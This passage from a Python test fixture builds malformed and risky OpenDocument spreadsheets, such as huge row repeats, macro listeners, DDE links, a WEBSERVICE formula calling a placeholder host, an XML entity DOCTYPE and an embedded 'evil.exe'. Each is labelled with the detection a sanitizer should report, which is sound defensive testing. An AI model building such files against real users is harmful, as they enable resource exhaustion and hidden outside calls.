    "rows_repeated": (
        lambda: table(f'<table:table-row table:number-rows-repeated="1048576">{cells()}</table:table-row>'),
        "rows",
    ),
    "columns_repeated": (
        lambda: table(
            f"<table:table-row>{cells(chr(32) + 'table:number-columns-repeated=' + chr(34) + '16384' + chr(34))}</table:table-row>"
        ),
        "columns",
    ),
    "both_repeated": (
        lambda: table(
            "".join(
                f'<table:table-row table:number-rows-repeated="50000">{cells("table:number-columns-repeated=" + chr(34) + "300" + chr(34))}</table:table-row>'
                for _ in range(3)
            )
        ),
        "sparse",
    ),
    "repeated_huge": (
        lambda: table('<table:table-row table:number-rows-repeated="99999999999"/>'),
        "reference",
    ),
    "repeated_negative": (lambda: table('<table:table-row table:number-rows-repeated="-1"/>'), "reference"),
    "value_far_down": (
        lambda: table(
            f'<table:table-row table:number-rows-repeated="1048000"/><table:table-row>{cells() * 9}</table:table-row>'
        ),
        "sparse",
    ),
    "merge": (
        lambda: table(
            f"<table:table-row>{cells('table:number-rows-spanned=' + chr(34) + '1048576' + chr(34) + ' table:number-columns-spanned=' + chr(34) + '9' + chr(34))}</table:table-row>"
        ),
        "merge_area",
    ),
    "macro": (
        lambda: ods("<office:event-listeners><script:event-listener/></office:event-listeners>"),
        "macro",
    ),
    "dde": (
        lambda: ods(
            "<table:dde-links><table:dde-link><office:dde-source/></table:dde-link></table:dde-links>"
        ),
        "macro",
    ),
    "linked_sheet": (
        lambda: table('<table:table-source xlink:href="http://a.example/x.ods"/>'),
        "external_link",
    ),
    "external_image": (
        lambda: table(
            '<table:table-row><table:table-cell><draw:frame><draw:image xlink:href="http://a.example/x.png"/></draw:frame></table:table-cell></table:table-row>'
        ),
        "external",
    ),
    "webservice": (
        lambda: table(
            '<table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;http://a.example&quot;)"/></table:table-row>'
        ),
        "call",
    ),
    "basic": (
        lambda: ods(
            "", parts={"Basic/Standard/script-lb.xml": '<library><element name="Module1"/></library>'}
        ),
        "macro",
    ),
    "encrypted": (
        lambda: ods(
            "",
            parts={
                "META-INF/manifest.xml": "<manifest><file-entry><encryption-data/></file-entry></manifest>"
            },
        ),
        "password",
    ),
    "doctype": (lambda: ods("", parts={"content.xml": ENTITY + "<x/>"}), "xml_doctype"),
    "text_document": (lambda: ods("", mimetype="application/vnd.oasis.opendocument.text"), "mismatch"),
    "deep": (lambda: ods("<table:a>" * 90 + "</table:a>" * 90), "xml_depth"),
    "program": (lambda: ods("", parts={"Object 1/evil.exe": "x"}), "program"),
    "no_content": (
        lambda: pack({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}),
        "not_office",
    ),
}

_ = (PACK, REL)
